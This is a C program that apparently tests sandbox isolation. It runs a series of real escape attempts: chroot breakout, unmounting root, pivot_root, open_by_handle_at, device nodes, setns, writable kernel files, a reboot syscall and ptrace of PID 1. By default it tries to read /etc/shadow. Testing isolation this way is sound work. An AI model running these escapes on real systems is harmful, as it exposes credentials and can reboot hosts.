/* Tries to get out of a sandbox. Prints one line for each try: its name and what
 * came of it. The first argument is a file that must not be reached. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *target;

static void say(const char *name, long result) {
  printf("%s: %s\n", name, result == 0 ? "done" : strerror(errno));
  fflush(stdout);
}

/* Prints the target's content wherever it can be found from here. */
static void look(const char *name) {
  char text[256] = "";
  const char *ways[] = {"", ".", "/proc/1/root", "/proc/self/root", "old"};
  for (unsigned i = 0; i < sizeof ways / sizeof *ways; i++) {
    char path[4096];
    snprintf(path, sizeof path, "%s%s", ways[i], target);
    int file = open(path, O_RDONLY);
    if (file < 0) continue;
    long got = read(file, text, sizeof text - 1);
    close(file);
    if (got > 0) printf("%s: REACHED %s\n", name, text);
  }
  fflush(stdout);
}

static void leave_by_chroot(const char *name) {
  mkdir("/tmp/trap", 0755);
  int here = open("/", O_RDONLY | O_DIRECTORY);
  say(name, chroot("/tmp/trap"));
  if (fchdir(here) == 0)
    for (int i = 0; i < 100; i++)
      if (chdir("..")) break;
  look(name);
  if (chroot(".") == 0) look(name);
}

static void mounts(const char *name) {
  char full[100];
  mkdir("/tmp/m", 0755);
  mkdir("/tmp/m/old", 0755);
  snprintf(full, sizeof full, "%s tmpfs", name);
  say(full, mount("none", "/tmp/m", "tmpfs", 0, ""));
  snprintf(full, sizeof full, "%s remount-proc", name);
  say(full, mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  snprintf(full, sizeof full, "%s umount-proc", name);
  say(full, umount2("/proc/sys", MNT_DETACH));
  snprintf(full, sizeof full, "%s umount-hosts", name);
  say(full, umount2("/etc/hosts", MNT_DETACH));
  snprintf(full, sizeof full, "%s umount-root", name);
  for (int i = 0; i < 5; i++) {
    say(full, umount2("/", MNT_DETACH));
    if (chdir("/") == 0) look(full);
  }
  snprintf(full, sizeof full, "%s pivot", name);
  mkdir("/tmp/m/old", 0755);
  say(full, syscall(SYS_pivot_root, "/tmp/m", "/tmp/m/old"));
  if (chdir("/") == 0) look(full);
}

static void handle(void) {
  struct {
    struct file_handle head;
    unsigned char bytes[128];
  } root;
  memset(&root, 0, sizeof root);
  int mount_id, base = open("/", O_RDONLY | O_DIRECTORY);
  root.head.handle_bytes = 8;
  root.head.handle_type = 1;
  *(unsigned int *)root.head.f_handle = 2;
  int found = open_by_handle_at(base, &root.head, O_RDONLY);
  (void)mount_id;
  say("handle", found < 0 ? -1 : 0);
  if (found >= 0 && fchdir(found) == 0) look("handle");
}

static void device(void) {
  for (int major = 253; major < 260; major++) {
    mknod("/tmp/disk", S_IFBLK | 0600, makedev(major, 0));
    int disk = open("/tmp/disk", O_RDONLY);
    if (disk >= 0) printf("device: REACHED %d\n", major);
    unlink("/tmp/disk");
  }
  mknod("/dev/disk", S_IFBLK | 0600, makedev(254, 0));
  int disk = open("/dev/disk", O_RDONLY);
  say("device", disk < 0 ? -1 : 0);
  mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1));
  say("memory", open("/tmp/mem", O_RDONLY) < 0 ? -1 : 0);
}

static void join(void) {
  char path[64];
  for (int pid = 1; pid < 20; pid++) {
    snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
    int space = open(path, O_RDONLY);
    if (space < 0) continue;
    if (setns(space, CLONE_NEWNS) == 0) {
      printf("join %d: done\n", pid);
      look("join");
    }
    close(space);
  }
}

static void descriptors(void) {
  for (int i = 3; i < 1024; i++) {
    char path[64], to[512] = "";
    if (fcntl(i, F_GETFD) < 0) continue;
    snprintf(path, sizeof path, "/proc/self/fd/%d", i);
    if (readlink(path, to, sizeof to - 1) < 0) continue;
    if (strcmp(to, "/dev/null")) printf("descriptor: REACHED %d %s\n", i, to);
  }
}

static void kernel(void) {
  const char *files[] = {"/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern",
                         "/sys/kernel/uevent_helper", "/proc/sys/vm/drop_caches",
                         "/proc/kcore", "/proc/keys", "/sys/power/state"};
  for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
    int file = open(files[i], O_WRONLY);
    if (file < 0) continue;
    struct stat info;
    fstat(file, &info);
    /* Hidden files are /dev/null. */
    if (!S_ISCHR(info.st_mode)) printf("kernel: REACHED %s\n", files[i]);
    close(file);
  }
  sethostname("other", 5);
  say("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL));
  say("ptrace", ptrace(PTRACE_ATTACH, 1, NULL, NULL));
}

static void nested(void) {
  int child = fork();
  if (child == 0) {
    say("nested", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID));
    look("nested");
    mounts("nested");
    leave_by_chroot("nested chroot");
    _exit(0);
  }
  waitpid(child, NULL, 0);
}

int main(int count, char **arguments) {
  target = count > 1 ? arguments[1] : "/etc/shadow";
  look("direct");
  descriptors();
  kernel();
  handle();
  device();
  join();
  int child = fork();
  if (child == 0) {
    mounts("mount");
    _exit(0);
  }
  waitpid(child, NULL, 0);
  nested();
  leave_by_chroot("chroot");
  printf("tried everything\n");
  return 0;
}
